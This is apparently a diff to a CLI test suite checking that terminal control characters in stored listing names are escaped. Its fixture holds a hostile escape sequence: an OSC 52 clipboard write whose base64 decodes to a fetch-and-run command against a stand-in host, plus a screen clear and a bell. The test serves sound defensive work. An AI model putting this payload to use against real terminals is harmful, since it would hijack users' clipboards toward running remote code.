@@ -6,6 +6,7 @@ import { main } from '../../src/cli/main.js';
 import { FileStore } from '../../src/store/file-store.js';
 import { createAssessment, createDraft, LOW_VECTOR } from '../factories/draft.js';
 import { createListing } from '../factories/listing.js';
+import { controlCharacters } from '../helpers/controls.js';
 import { captureIo } from '../helpers/io.js';
 
 async function seeded(): Promise<{ data: string; tokens: Record<string, string> }> {
@@ -40,14 +41,6 @@ async function run(args: string[], env: NodeJS.ProcessEnv = {}) {
   return { code, out: io.out(), err: io.err(), lines: io.out().trim().split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>) };
 }
 
-/** True when `text` holds a C0 control other than tab and newline, DEL or a C1 control. */
-function hasControl(text: string): boolean {
-  return [...text].some((char) => {
-    const code = char.charCodeAt(0);
-    return (code < 0x20 && code !== 0x09 && code !== 0x0a) || (code >= 0x7f && code <= 0x9f);
-  });
-}
-
 describe('hardening #4 (control characters never reach a terminal)', () => {
   // An OSC 52 clipboard write, a CSI screen clear, a C1 CSI and a bell, as a listing stored by an
   // older version (or any other source) could still carry them.
@@ -62,11 +55,11 @@ describe('hardening #4 (control characters never reach a terminal)', () => {
     for (const args of [['drafts', 'list'], ['drafts', 'show', 'acme-ops-agent.r1']]) {
       const tty = captureIo({ tty: true });
       expect(await main([...args, '--data', data], tty)).toBe(0);
-      expect(hasControl(tty.out())).toBe(false);
+      expect(controlCharacters(tty.out())).toEqual([]);
       expect(tty.out()).toContain('Evil\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007 Agent\\u001b[2J\\u009b31m\\u0085');
       const json = captureIo();
       expect(await main([...args, '--data', data, '--json'], json)).toBe(0);
-      expect(hasControl(json.out())).toBe(false);
+      expect(controlCharacters(json.out())).toEqual([]);
       // Escaped inside JSON strings, the value is the same: machines still read the stored text.
       expect(json.out()).toContain(JSON.stringify(HOSTILE).slice(1, -1).replace('\u009b', '\\u009b').replace('\u0085', '\\u0085'));
     }
